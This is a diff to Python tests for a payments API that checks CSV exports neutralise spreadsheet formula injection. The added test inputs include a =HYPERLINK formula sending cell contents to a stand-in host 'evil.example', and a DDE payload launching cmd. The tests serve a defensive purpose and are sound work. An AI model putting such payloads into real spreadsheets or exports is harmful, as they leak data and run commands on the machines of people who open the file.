@@ -108,8 +108,12 @@ async def test_payments_are_checked_recorded_logged_and_alerted(app, client, clo
     assert r.status_code == 403 and r.json()["error"]["code"] == "other_centre"
     assert await _counts(app) == before  # nothing stored, nothing logged, no alert
 
-    r = await client.post(url, headers=staff, json=ok)
+    # Texts typed by staff that a spreadsheet would run (=HYPERLINK leaking the sheet, DDE): see the CSV below.
+    typed = {"payer": '=HYPERLINK("http://evil.example/?"&A2,"核对")', "purpose": "＝cmd|' /C calc'!A0",
+             "milestone": "\t@SUM(1,1)"}  # fmt: skip
+    r = await client.post(url, headers=staff, json=ok | typed)
     assert r.status_code == 201 and r.json()["flags"] == [], r.text
+    assert r.json()["payer"] == typed["payer"]  # stored and shown as typed
     odd = await client.post(url, headers=staff, json=ok | {"payee": "某某劳务有限公司"})
     assert odd.json()["flags"] == ["payee_not_contractor"]
     paid_here = sum(
@@ -158,6 +162,9 @@ async def test_payments_are_checked_recorded_logged_and_alerted(app, client, clo
         csv.reader(io.StringIO((await client.get(f"/api/projects/{project.id}/payments.csv")).text.lstrip("\ufeff")))
     )
     assert len(rows) == len(funds["payments"]) + 1 and rows[-1][2] == f"{(remaining + 100) / 100:.2f}"
+    # In the CSV anyone downloads, as text a spreadsheet shows and never runs; the amount still a number.
+    (row,) = [row for row in rows if row[3] == "'" + typed["payer"]]
+    assert row[2] == "10000.00" and (row[5], row[6]) == ("'" + typed["purpose"], "'" + typed["milestone"])
 
 
 @pytest.mark.asyncio
@@ -241,3 +248,11 @@ def test_a_chart_stays_well_formed_whatever_characters_its_text_holds():
     ):  # fmt: skip
         root = ET.fromstring(svg)
         assert "控制\ufffd字符\ufffd工程\ufffd" in (root.findtext(f"{SVG}title") or "")
+
+
+def test_a_spreadsheet_cell_keeps_numbers_and_plain_text():
+    from trading.funds.controllers import spreadsheet_cell
+
+    assert [spreadsheet_cell(v) for v in ("-12.50", "12", 7, "进度款", "", "a=b", "-", "+86 731")] == [
+        "-12.50", "12", 7, "进度款", "", "a=b", "'-", "'+86 731"
+    ]  # fmt: skip
